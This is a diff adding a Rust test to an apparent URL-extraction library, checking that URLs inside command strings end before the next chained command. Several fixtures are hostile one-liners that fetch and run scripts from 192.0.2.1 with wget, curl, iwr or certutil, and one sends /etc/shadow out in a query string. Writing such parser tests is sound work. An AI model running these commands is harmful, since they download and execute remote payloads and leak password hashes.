@@ -19,6 +19,44 @@ fn urls_end_where_people_say_they_end() {
 }
 
 #[test]
+fn a_url_in_a_command_ends_before_the_next_command() {
+    for (text, url) in [
+        (
+            "cd /tmp;wget http://192.0.2.1/a.sh;chmod 777 a.sh",
+            "http://192.0.2.1/a.sh",
+        ),
+        ("wget http://192.0.2.1/a.sh;./a.sh", "http://192.0.2.1/a.sh"),
+        ("wget http://192.0.2.1/a.sh;/tmp/a.sh", "http://192.0.2.1/a.sh"),
+        ("iwr http://192.0.2.1/a.ps1;iex a", "http://192.0.2.1/a.ps1"),
+        ("wget http://192.0.2.1/a&&chmod +x a", "http://192.0.2.1/a"),
+        ("certutil -f http://192.0.2.1/a.exe&a.exe", "http://192.0.2.1/a.exe"),
+        (
+            "wget http://192.0.2.1/jaws;sh%20/tmp/jaws HTTP/1.1",
+            "http://192.0.2.1/jaws",
+        ),
+        ("wget${IFS}http://192.0.2.1/a;chmod${IFS}777", "http://192.0.2.1/a"),
+        ("curl http://192.0.2.1/?d=$(cat /etc/shadow)", "http://192.0.2.1/?d="),
+        ("curl http://192.0.2.1/?a=1&b=2;id", "http://192.0.2.1/?a=1&b=2"),
+        // Parameters, and what else belongs to one.
+        (
+            "GET http://x.example/a;jsessionid=12 HTTP/1.1",
+            "http://x.example/a;jsessionid=12",
+        ),
+        ("GET http://x.example/a;b/c HTTP/1.1", "http://x.example/a;b/c"),
+        ("GET http://x.example/?a=1&flag HTTP/1.1", "http://x.example/?a=1&flag"),
+        ("GET http://x.example/?a=1&&b=2 HTTP/1.1", "http://x.example/?a=1&&b=2"),
+        (
+            "GET http://x.example/?a=1&amp;b HTTP/1.1",
+            "http://x.example/?a=1&amp;b",
+        ),
+        ("GET http://x.example/$metadata HTTP/1.1", "http://x.example/$metadata"),
+        ("http://x.example/a;b", "http://x.example/a;b"),
+    ] {
+        assert_eq!(all(text).next(), Some(url), "{text}");
+    }
+}
+
+#[test]
 fn of_two_hosts_around_an_at_sign_either_may_be_meant() {
     let (bank, ip) = ("www.bank.example", "203.0.113.66".parse().unwrap());
     let both = [Host::Name(bank.to_owned()), Host::Ip(ip)];
